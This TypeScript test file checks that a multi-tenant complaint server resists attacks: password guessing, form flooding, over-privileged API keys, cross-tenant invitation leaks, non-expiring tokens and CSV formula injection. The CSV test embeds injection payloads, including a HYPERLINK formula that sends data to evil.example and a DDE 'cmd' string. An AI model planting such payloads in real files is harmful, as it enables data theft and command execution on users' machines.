import { randomUUID } from 'node:crypto';
import { SignJWT } from 'jose';
import pino from 'pino';
import { startTestServer, testConfig, TEST_PASSWORD, type TestServer } from '../support/test-server';
import { startApp, type RunningApp } from '../../server/src/app';
import type { Config } from '../../server/src/config/config';
import { createStaffedTenant, inviteMember } from '../support/complaint-fixtures';
import { TEST_TOKEN_SECRET } from '../support/test-database';
import { fromGlobalId } from '../../server/src/graphql/relay';

/**
 * What a hostile client on the internet, or an integration past its welcome, can make the
 * server do: guess passwords, flood the public forms, outlive its creator with an API key,
 * smuggle formulas into the monthly CSV, learn about people of other tenants through an
 * invitation, or present a token that never expires. Each is refused before it costs anything.
 */
let server: TestServer;

/** Blocks long enough that no test here outlives one, however slow the machine. */
const LOGIN = { accountFailures: 5, addressFailures: 8, windowSeconds: 600, blockSeconds: 60, maxBlockSeconds: 600 };
const LIMITS: Partial<Config> = {
  // One trusted proxy: each case below speaks from addresses of its own (X-Forwarded-For).
  trustProxy: 1,
  rateLimits: {
    login: LOGIN,
    submitComplaint: { perAddress: 10, perTenant: 15, windowSeconds: 600 },
    complaintStatus: { perAddress: 20, perTenant: 30, windowSeconds: 600 },
    satisfactionSurvey: { perAddress: 5, perTenant: 8, windowSeconds: 600 },
    evidenceUpload: { perAddress: 0, perTenant: 0, windowSeconds: 600 },
    complainantEvidence: { perAddress: 0, perTenant: 0, windowSeconds: 600 },
    publicTenant: { perAddress: 0, perTenant: 0, windowSeconds: 60 },
    complainantMessage: { perAddress: 0, perTenant: 0, windowSeconds: 3600 },
  },
};

beforeAll(async () => {
  server = await startTestServer(LIMITS);
});

afterAll(async () => {
  await server?.stop();
});

interface Answer {
  status: number;
  retryAfter: string | null;
  body: { data: any; errors?: { message: string; extensions?: { code?: string; retryAfterSeconds?: number } }[] };
  ms: number;
}

/** One POST, with the response's status and Retry-After header, from `address`. */
async function post(
  query: string,
  variables: Record<string, unknown>,
  options: { address?: string; token?: string; url?: string } = {},
): Promise<Answer> {
  const started = performance.now();
  const response = await fetch(options.url ?? server.url, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      ...(options.address ? { 'x-forwarded-for': options.address } : {}),
      ...(options.token ? { authorization: `Bearer ${options.token}` } : {}),
    },
    body: JSON.stringify({ query, variables }),
  });
  const body = (await response.json()) as Answer['body'];
  return { status: response.status, retryAfter: response.headers.get('retry-after'), body, ms: performance.now() - started };
}

const codeOf = (answer: Answer) => answer.body.errors?.[0]?.extensions?.code ?? null;
/** The error codes of a mutation's payload, or what was thrown instead ("thrown CODE"). */
const payloadCodes = (answer: Answer, field: string): string | null =>
  answer.body.errors
    ? `thrown ${codeOf(answer)}`
    : (answer.body.data?.[field]?.errors?.map((e: { code: string }) => e.code).join(',') ?? null);

function expectRateLimited(answer: Answer): number {
  expect(codeOf(answer)).toBe('RATE_LIMITED');
  expect(answer.status).toBe(429);
  const seconds = answer.body.errors![0].extensions!.retryAfterSeconds!;
  expect(seconds).toBeGreaterThanOrEqual(1);
  expect(answer.retryAfter).toBe(String(seconds));
  return seconds;
}

const LOGIN_MUTATION = `mutation ($input: LoginInput!) { login(input: $input) { token errors { code } } }`;
const login = (email: string, password: string, tenantSlug: string, address: string, url?: string) =>
  post(LOGIN_MUTATION, { input: { email, password, tenantSlug } }, { address, url });
const loginCode = (answer: Answer) =>
  codeOf(answer) ?? answer.body.data?.login?.errors?.[0]?.code ?? (answer.body.data?.login?.token ? 'OK' : null);
const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
let addresses = 0;
/** A fresh client address, so that only the account's limit is at play. */
const anywhere = () => `10.9.${Math.floor(++addresses / 250)}.${addresses % 250}`;

describe('password guessing', () => {
  let tenant: { slug: string; adminToken: string };
  let victim: { email: string; password: string };
  let bystander: { email: string; password: string };

  beforeAll(async () => {
    tenant = await server.createTenant('guessing');
    const invite = async (name: string) => {
      const result = await server.request(
        `mutation ($input: InviteUserInput!) { inviteUser(input: $input) { temporaryPassword errors { code } } }`,
        { input: { email: `${name}@guessing.test`, name, roles: ['agent'] } },
        { token: tenant.adminToken },
      );
      return { email: `${name}@guessing.test`, password: result.data.inviteUser.temporaryPassword as string };
    };
    victim = await invite('victim');
    bystander = await invite('bystander');
  });

  it('50 wrong passwords: RATE_LIMITED after the configured number, the right one refused too; another account logs in meanwhile', async () => {
    const answers: Answer[] = [];
    for (let i = 0; i < 50; i += 1) answers.push(await login(victim.email, `wrong-${i}`, 'guessing', anywhere()));
    expect(answers.slice(0, LOGIN.accountFailures).map(loginCode)).toEqual(Array(LOGIN.accountFailures).fill('INVALID_CREDENTIALS'));
    for (const refused of answers.slice(LOGIN.accountFailures)) {
      expect(expectRateLimited(refused)).toBeLessThanOrEqual(LOGIN.blockSeconds);
      expect(refused.body.data).toBeNull();
    }
    // During the block even the right password is refused: it is not checked at all.
    expectRateLimited(await login(victim.email, victim.password, 'guessing', anywhere()));
    // Another account, from another address, is not held up.
    const other = await login(bystander.email, bystander.password, 'guessing', '10.0.0.2');
    expect(loginCode(other)).toBe('OK');
    expect(other.ms).toBeLessThan(5000);
  });

  it('a burst of parallel guesses, spread over two server processes, is counted as it arrives: one check past the limit', async () => {
    // A second process on the same database: the limits live in PostgreSQL, so it counts along.
    const second: RunningApp = await startApp(testConfig(server.ownerUrl, LIMITS), pino({ level: 'silent' }), { clock: server.clock });
    try {
      const burst = await Promise.all(
        Array.from({ length: 20 }, (_, i) =>
          login(bystander.email, `burst-${i}`, 'guessing', `10.0.1.${i}`, i % 2 ? second.url : server.url),
        ),
      );
      const checked = burst.filter((a) => loginCode(a) === 'INVALID_CREDENTIALS').length;
      expect(checked).toBe(LOGIN.accountFailures + 1);
      for (const refused of burst.filter((a) => loginCode(a) !== 'INVALID_CREDENTIALS')) expectRateLimited(refused);
    } finally {
      await second.stop();
    }
  });

  it('one address guessing many accounts is stopped too, without locking those accounts out elsewhere', async () => {
    const [admin] = await server.ownerQuery(`SELECT email FROM users WHERE email LIKE 'admin-%@guessing.test'`);
    const answers: Answer[] = [];
    for (let i = 0; i < LOGIN.addressFailures + 3; i += 1)
      answers.push(await login(`nobody-${i}@guessing.test`, 'guess', 'guessing', '10.0.2.1'));
    expect(answers.slice(0, LOGIN.addressFailures).map(loginCode)).toEqual(Array(LOGIN.addressFailures).fill('INVALID_CREDENTIALS'));
    for (const refused of answers.slice(LOGIN.addressFailures)) expectRateLimited(refused);
    // The address is blocked for a real account too; the same account from another address is fine.
    expectRateLimited(await login(admin.email, TEST_PASSWORD, 'guessing', '10.0.2.1'));
    expect(loginCode(await login(admin.email, TEST_PASSWORD, 'guessing', '10.0.2.2'))).toBe('OK');
  });
});

describe('growing back-off', () => {
  // Short blocks on a server of its own, so that waiting them out keeps the test short.
  const BACKOFF = { accountFailures: 2, addressFailures: 100, windowSeconds: 600, blockSeconds: 2, maxBlockSeconds: 16 };
  let quick: TestServer;
  let admin: { email: string };

  beforeAll(async () => {
    quick = await startTestServer({ ...LIMITS, rateLimits: { ...LIMITS.rateLimits!, login: BACKOFF } });
    admin = { email: (await quick.createTenant('backoff')).adminEmail };
  });

  afterAll(async () => {
    await quick?.stop();
  });

  it('each failure past the limit doubles the block; once it runs out the right password works and the count starts afresh', async () => {
    const attempt = async (password: string) => login(admin.email, password, 'backoff', anywhere(), quick.url);
    expect(loginCode(await attempt('wrong-1'))).toBe('INVALID_CREDENTIALS');
    expect(loginCode(await attempt('wrong-2'))).toBe('INVALID_CREDENTIALS');
    let block = expectRateLimited(await attempt('wrong-3'));
    expect(block).toBeLessThanOrEqual(BACKOFF.blockSeconds);
    const blocks: number[] = [];
    for (let round = 0; round < 2; round += 1) {
      await sleep(block * 1000 + 200);
      expect(loginCode(await attempt('still-wrong'))).toBe('INVALID_CREDENTIALS');
      block = expectRateLimited(await attempt('still-wrong'));
      blocks.push(block);
    }
    // 2 s, then 4 s, then 8 s (less the moment the refused attempt took to arrive).
    expect(blocks[0]).toBeGreaterThan(BACKOFF.blockSeconds);
    expect(blocks[0]).toBeLessThanOrEqual(2 * BACKOFF.blockSeconds);
    expect(blocks[1]).toBeGreaterThan(2 * BACKOFF.blockSeconds);
    expect(blocks[1]).toBeLessThanOrEqual(4 * BACKOFF.blockSeconds);

    await sleep(block * 1000 + 200);
    expect(loginCode(await attempt(TEST_PASSWORD))).toBe('OK');
    expect(loginCode(await attempt('typo-1'))).toBe('INVALID_CREDENTIALS');
    expect(loginCode(await attempt('typo-2'))).toBe('INVALID_CREDENTIALS');
    expect(expectRateLimited(await attempt('typo-3'))).toBeLessThanOrEqual(BACKOFF.blockSeconds);
  }, 90000);
});

describe('flooding the public operations', () => {
  let trackingCode: string;
  const SUBMIT = `mutation ($input: SubmitComplaintInput!) { submitComplaint(input: $input) { trackingCode errors { code } } }`;
  const submit = (address: string, i: number) =>
    post(
      SUBMIT,
      {
        input: {
          tenantSlug: 'flooded',
          description: `Flood ${i}`,
          demands: ['APOLOGY'],
          complainant: { name: `Flooder ${i}`, phone: `139000${String(i).padStart(5, '0')}` },
        },
      },
      { address },
    );
  const counts = async () => {
    const [row] = await server.ownerQuery(
      `SELECT (SELECT count(*)::int FROM complaints c JOIN tenants t ON t.id = c.tenant_id WHERE t.slug = 'flooded') AS complaints,
              (SELECT count(*)::int FROM graphile_worker.jobs) AS jobs`,
    );
    return row as { complaints: number; jobs: number };
  };

  beforeAll(async () => {
    await createStaffedTenant(server, 'flooded');
  });

  it('150 anonymous complaints from one address: refused after the limit, nothing written, no timers added', async () => {
    const first: Answer[] = [];
    for (let i = 0; i < 10; i += 1) first.push(await submit('10.1.0.1', i));
    expect(first.map((a) => a.body.data.submitComplaint.errors)).toEqual(Array(10).fill([]));
    trackingCode = first[0].body.data.submitComplaint.trackingCode;
    const before = await counts();
    expect(before.complaints).toBe(10);
    expect(before.jobs).toBeGreaterThan(0);

    const rest: Answer[] = [];
    for (let batch = 0; batch < 7; batch += 1) {
      rest.push(...(await Promise.all(Array.from({ length: 20 }, (_, j) => submit('10.1.0.1', 10 + batch * 20 + j)))));
    }
    expect(rest).toHaveLength(140);
    for (const refused of rest) {
      expectRateLimited(refused);
      expect(refused.body.data).toBeNull();
    }
    expect(await counts()).toEqual(before);
    // Operators see the refusals, by limit, at /metrics.
    const metrics = await (await fetch(new URL(server.url).origin + '/metrics')).text();
    const refusals = /^redress_rate_limit_refusals_total\{limit="submitComplaint-per-address"\} (\d+)$/m.exec(metrics);
    expect(Number(refusals?.[1])).toBeGreaterThanOrEqual(140);
  });

  it('the organisation as a whole takes a bounded number, whatever the addresses', async () => {
    const answers: Answer[] = [];
    for (let i = 0; i < 8; i += 1) answers.push(await submit(`10.1.1.${i}`, 200 + i));
    // 10 were taken above, the tenant allows 15 per window.
    expect(answers.slice(0, 5).every((a) => a.body.data?.submitComplaint?.trackingCode)).toBe(true);
    for (const refused of answers.slice(5)) expectRateLimited(refused);
    expect((await counts()).complaints).toBe(15);
  });

  it('complaint status: limited per address, then per organisation', async () => {
    const STATUS = `query ($code: String!) { complaintStatus(tenantSlug: "flooded", trackingCode: $code) { status } }`;
    const fromA: Answer[] = [];
    for (let i = 0; i < 23; i += 1) fromA.push(await post(STATUS, { code: trackingCode }, { address: '10.2.0.1' }));
    expect(fromA.slice(0, 20).map((a) => a.body.data?.complaintStatus?.status)).toEqual(Array(20).fill('RECEIVED'));
    for (const refused of fromA.slice(20)) expectRateLimited(refused);
    const fromB: Answer[] = [];
    for (let i = 0; i < 12; i += 1) fromB.push(await post(STATUS, { code: 'RD-NOPE-0000' }, { address: '10.2.0.2' }));
    expect(fromB.slice(0, 10).map((a) => [codeOf(a), a.body.data])).toEqual(Array(10).fill([null, { complaintStatus: null }]));
    for (const refused of fromB.slice(10)) expectRateLimited(refused);
  });

  it('the complainant survey: limited per address, then per organisation', async () => {
    const SURVEY = `mutation ($input: AnswerSatisfactionSurveyInput!) { answerSatisfactionSurvey(input: $input) { status { status } errors { code } } }`;
    const answer = (address: string) =>
      post(
        SURVEY,
        {
          input: {
            tenantSlug: 'flooded',
            trackingCode,
            scores: ['RESPONSE_SPEED', 'RESOLUTION', 'EFFICIENCY', 'ATTITUDE', 'PRICE'].map((dimension) => ({ dimension, score: 1 })),
          },
        },
        { address },
      );
    const fromA: Answer[] = [];
    for (let i = 0; i < 7; i += 1) fromA.push(await answer('10.3.0.1'));
    expect(fromA.slice(0, 5).map((a) => a.body.data?.answerSatisfactionSurvey?.errors?.[0]?.code)).toEqual(
      Array(5).fill('ILLEGAL_TRANSITION'),
    );
    for (const refused of fromA.slice(5)) expectRateLimited(refused);
    const fromB: Answer[] = [];
    for (let i = 0; i < 5; i += 1) fromB.push(await answer('10.3.0.2'));
    expect(fromB.slice(0, 3).map((a) => a.body.data?.answerSatisfactionSurvey?.errors?.[0]?.code)).toEqual(
      Array(3).fill('ILLEGAL_TRANSITION'),
    );
    for (const refused of fromB.slice(3)) expectRateLimited(refused);
  });
});

describe('API keys act for their creator, never with more', () => {
  let tenant: { slug: string; adminToken: string };
  let creator: { token: string; userId: string };
  const CREATE_KEY = `mutation ($roles: [String!]!) { createApiKey(input: { name: "integration", roles: $roles }) { apiKey { id roles } secret errors { code } } }`;
  const createKey = async (token: string, roles: string[]) => (await post(CREATE_KEY, { roles }, { token })).body;
  const INVITE = `mutation ($input: InviteUserInput!) { inviteUser(input: $input) { membership { roles } invitation { roles } temporaryPassword errors { code } } }`;

  beforeAll(async () => {
    tenant = await server.createTenant('keys');
    creator = await inviteMember(server, tenant, 'key-creator', ['tenant-admin']);
  });

  it('a key stops working when its creator is removed from the tenant, and so do the keys it minted', async () => {
    const key = (await createKey(creator.token, ['tenant-admin'])).data.createApiKey.secret as string;
    expect((await post(`{ tenant { slug } }`, {}, { token: key })).body.data.tenant.slug).toBe('keys');
    const minted = (await createKey(key, ['tenant-admin'])).data.createApiKey.secret as string;
    expect(minted).toMatch(/^rdk_/);

    const removed = await server.request(
      `mutation ($u: ID!) { removeMember(input: { userId: $u }) { errors { code } } }`,
      { u: creator.userId },
      { token: tenant.adminToken },
    );
    expect(removed.data.removeMember.errors).toEqual([]);
    for (const secret of [key, minted]) {
      const refused = await post(`{ tenant { slug } }`, {}, { token: secret });
      expect(codeOf(refused)).toBe('UNAUTHENTICATED');
      expect(refused.body.errors![0].message).toMatch(/creator/);
    }
    // Nor can it bring its creator back, or make an administrator key.
    const reinvite = await post(
      INVITE,
      { input: { email: 'key-creator@keys.test', name: 'Back', roles: ['tenant-admin'] } },
      { token: key },
    );
    expect(codeOf(reinvite)).toBe('UNAUTHENTICATED');
    expect(codeOf(await post(CREATE_KEY, { roles: ['tenant-admin'] }, { token: key }))).toBe('UNAUTHENTICATED');
    const members = await server.ownerQuery(
      `SELECT count(*)::int AS n FROM memberships m JOIN users u ON u.id = m.user_id WHERE u.email = 'key-creator@keys.test'`,
    );
    expect(members[0].n).toBe(0);
  });

  it("a key's roles are cut to its creator's current ones: a demoted administrator's key can neither mint keys nor invite an admin", async () => {
    const demoted = await inviteMember(server, tenant, 'demoted', ['tenant-admin']);
    const key = (await createKey(demoted.token, ['tenant-admin', 'supervisor'])).data.createApiKey.secret as string;
    const ROLES = `{ me { roles } apiKeys(first: 1) { totalCount } }`;
    const before = await post(ROLES, {}, { token: key });
    expect(before.body.errors).toBeUndefined();
    expect(before.body.data.me.roles).toEqual(['supervisor', 'tenant-admin']);
    const set = await server.request(
      `mutation ($u: ID!) { setMemberRoles(input: { userId: $u, roles: ["supervisor"] }) { errors { code } } }`,
      { u: demoted.userId },
      { token: tenant.adminToken },
    );
    expect(set.data.setMemberRoles.errors).toEqual([]);
    expect(payloadCodes(await post(CREATE_KEY, { roles: ['tenant-admin'] }, { token: key }), 'createApiKey')).toBe('FORBIDDEN');
    const invite = await post(
      INVITE,
      { input: { email: 'new-admin@keys.test', name: 'New admin', roles: ['tenant-admin'] } },
      { token: key },
    );
    expect(payloadCodes(invite, 'inviteUser')).toBe('FORBIDDEN');
    // What the creator still holds, the key still has; the rest is gone.
    expect((await post(`{ me { roles } }`, {}, { token: key })).body.data.me.roles).toEqual(['supervisor']);
    expect(codeOf(await post(ROLES, {}, { token: key }))).toBe('FORBIDDEN');
    const users = await server.ownerQuery(`SELECT count(*)::int AS n FROM users WHERE email = 'new-admin@keys.test'`);
    expect(users[0].n).toBe(0);
  });

  it('through a key, only roles the key holds can be handed on, to a key or to a member', async () => {
    const key = (await createKey(tenant.adminToken, ['tenant-admin'])).data.createApiKey.secret as string;
    expect(payloadCodes(await post(CREATE_KEY, { roles: ['tenant-admin', 'supervisor'] }, { token: key }), 'createApiKey')).toBe(
      'FORBIDDEN',
    );
    expect(
      payloadCodes(
        await post(INVITE, { input: { email: 'sup@keys.test', name: 'Sup', roles: ['supervisor'] } }, { token: key }),
        'inviteUser',
      ),
    ).toBe('FORBIDDEN');
    const same = await createKey(key, ['tenant-admin']);
    expect(same.data.createApiKey.errors).toEqual([]);
    expect(await server.ownerQuery(`SELECT 1 FROM users WHERE email = 'sup@keys.test'`)).toEqual([]);
    // A person keeps the administrator's power to give any role.
    expect((await createKey(tenant.adminToken, ['supervisor'])).data.createApiKey.errors).toEqual([]);
  });
});

describe('the monthly CSV', () => {
  it('neutralises cells that a spreadsheet would run as formulas', async () => {
    const { staff } = await createStaffedTenant(server, 'csv-injection');
    const filed = await post(
      `mutation ($input: SubmitComplaintInput!) { submitComplaint(input: $input) { trackingCode errors { code } } }`,
      {
        input: {
          tenantSlug: 'csv-injection',
          description: 'A complaint with a formula for a name',
          demands: ['APOLOGY'],
          complainant: { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', phone: '13700000001' },
          asset: { name: '@SUM(1+1)', model: "-2+3+cmd|' /C calc'!A0" },
        },
      },
      { address: '10.4.0.1' },
    );
    expect(filed.body.data.submitComplaint.errors).toEqual([]);
    await server.ownerQuery(
      `UPDATE complaints SET received_at = '2026-10-15T10:00:00+08:00' WHERE tenant_id = (SELECT id FROM tenants WHERE slug = 'csv-injection')`,
    );
    const generated = await server.request(
      `mutation { generateMonthlyReport(input: { month: "2026-10" }) { report { csvUrl } errors { code } } }`,
      {},
      { token: staff.supervisor },
    );
    expect(generated.data.generateMonthlyReport.errors).toEqual([]);
    const response = await fetch(new URL(server.url).origin + generated.data.generateMonthlyReport.report.csvUrl, {
      headers: { authorization: `Bearer ${staff.supervisor}` },
    });
    expect(response.status).toBe(200);
    const csv = await response.text();
    expect(csv).toContain(`customer,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",count,1`);
    expect(csv).toContain(`product,"'-2+3+cmd|' /C calc'!A0",count,1`);
    expect(csv).toContain(`asset,"'@SUM(1+1)`);
    // No cell, quoted or not, starts with a formula character.
    expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
  });
});

describe('inviting a person who already has an account', () => {
  const INVITE = `mutation ($input: InviteUserInput!) {
    inviteUser(input: $input) { membership { user { id name email } roles } invitation { id name email roles tenant { slug } } temporaryPassword errors { code } } }`;

  it('reveals nothing of them and adds them only once they accept', async () => {
    const home = await server.createTenant('home-org');
    const person = await inviteMember(server, home, 'private-person', ['agent']);
    await server.ownerQuery(`UPDATE users SET display_name = 'Name only home-org knows' WHERE email = 'private-person@home-org.test'`);
    const asking = await server.createTenant('asking-org');

    const invited = await post(
      INVITE,
      { input: { email: 'private-person@home-org.test', name: 'As typed', roles: ['supervisor'] } },
      { token: asking.adminToken },
    );
    expect(invited.body.errors).toBeUndefined();
    expect(JSON.stringify(invited.body)).not.toContain('Name only home-org knows');
    expect(JSON.stringify(invited.body)).not.toContain(fromGlobalId(person.userId, 'User')!.id);
    expect(JSON.stringify(invited.body)).not.toContain(person.userId);
    const payload = invited.body.data.inviteUser;
    expect(payload).toEqual({
      membership: null,
      invitation: {
        id: expect.any(String),
        name: 'As typed',
        email: 'private-person@home-org.test',
        roles: ['supervisor'],
        tenant: { slug: 'asking-org' },
      },
      temporaryPassword: null,
      errors: [],
    });
    // Not a member yet: not listed, cannot log in there, the tenant cannot see them.
    const members = await post(`{ members(first: 50) { edges { node { user { name email } } } } }`, {}, { token: asking.adminToken });
    expect(JSON.stringify(members.body)).not.toContain('private-person');
    const membershipsThere = () =>
      server.ownerQuery(
        `SELECT m.roles FROM memberships m JOIN tenants t ON t.id = m.tenant_id JOIN users u ON u.id = m.user_id
          WHERE t.slug = 'asking-org' AND u.email = 'private-person@home-org.test'`,
      );
    expect(await membershipsThere()).toEqual([]);

    // The person sees the invitation where they are, and accepts it.
    const pending = await post(`{ me { pendingInvitations { id name roles tenant { slug name } } } }`, {}, { token: person.token });
    expect(pending.body.data.me.pendingInvitations).toEqual([
      { id: payload.invitation.id, name: 'As typed', roles: ['supervisor'], tenant: { slug: 'asking-org', name: 'Tenant asking-org' } },
    ]);
    const accepted = await post(
      `mutation ($id: ID!) { acceptInvitation(input: { id: $id }) { membership { tenant { slug } roles } errors { code } } }`,
      { id: payload.invitation.id },
      { token: person.token },
    );
    expect(accepted.body.data.acceptInvitation).toEqual({
      membership: { tenant: { slug: 'asking-org' }, roles: ['supervisor'] },
      errors: [],
    });
    const after = await post(`{ members(first: 50) { edges { node { user { email } roles } } } }`, {}, { token: asking.adminToken });
    expect(after.body.data.members.edges.map((e: any) => e.node)).toContainEqual({
      user: { email: 'private-person@home-org.test' },
      roles: ['supervisor'],
    });
    expect((await post(`{ me { pendingInvitations { id } } }`, {}, { token: person.token })).body.data.me.pendingInvitations).toEqual([]);
    expect(await membershipsThere()).toEqual([{ roles: ['supervisor'] }]);
  });

  it('a declined invitation adds nothing, and an API key cannot answer for the person', async () => {
    const home = await server.createTenant('home-two');
    const person = await inviteMember(server, home, 'reluctant', ['tenant-admin']);
    const asking = await server.createTenant('asking-two');
    const invited = await post(
      INVITE,
      { input: { email: 'reluctant@home-two.test', name: 'R', roles: ['agent'] } },
      { token: asking.adminToken },
    );
    const id = invited.body.data.inviteUser.invitation.id;
    const key = (
      await post(`mutation { createApiKey(input: { name: "k", roles: ["tenant-admin"] }) { secret } }`, {}, { token: person.token })
    ).body.data.createApiKey.secret;
    const ACCEPT = `mutation ($id: ID!) { acceptInvitation(input: { id: $id }) { membership { roles } errors { code } } }`;
    expect(payloadCodes(await post(ACCEPT, { id }, { token: key }), 'acceptInvitation')).toBe('FORBIDDEN');
    const declined = await post(
      `mutation ($id: ID!) { declineInvitation(input: { id: $id }) { declinedId errors { code } } }`,
      { id },
      { token: person.token },
    );
    expect(declined.body.data.declineInvitation).toEqual({ declinedId: id, errors: [] });
    expect((await post(ACCEPT, { id }, { token: person.token })).body.data.acceptInvitation.errors).toEqual([{ code: 'NOT_FOUND' }]);
    const rows = await server.ownerQuery(
      `SELECT count(*)::int AS n FROM memberships m JOIN tenants t ON t.id = m.tenant_id JOIN users u ON u.id = m.user_id
        WHERE t.slug = 'asking-two' AND u.email = 'reluctant@home-two.test'`,
    );
    expect(rows[0].n).toBe(0);
  });
});

describe('tokens', () => {
  it('a signed token without exp is refused', async () => {
    const [user] = await server.ownerQuery(`SELECT u.id, m.tenant_id FROM users u JOIN memberships m ON m.user_id = u.id LIMIT 1`);
    const key = new TextEncoder().encode(TEST_TOKEN_SECRET);
    // Every other claim a token of this server carries: its sign-in's id and instant.
    const claims = new SignJWT({ tid: user.tenant_id, sid: randomUUID(), sia: Math.floor(Date.now() / 1000) })
      .setProtectedHeader({ alg: 'HS256' })
      .setSubject(user.id)
      .setIssuer('redress')
      .setIssuedAt();
    const forever = await claims.sign(key);
    const refused = await post(`{ me { user { id } } }`, {}, { token: forever });
    expect(codeOf(refused)).toBe('UNAUTHENTICATED');
    // The same claims with an expiry are accepted: only the missing exp is at fault.
    const expiring = await claims.setExpirationTime('5m').sign(key);
    expect(codeOf(await post(`{ me { user { id } } }`, {}, { token: expiring }))).toBeNull();
  });
});
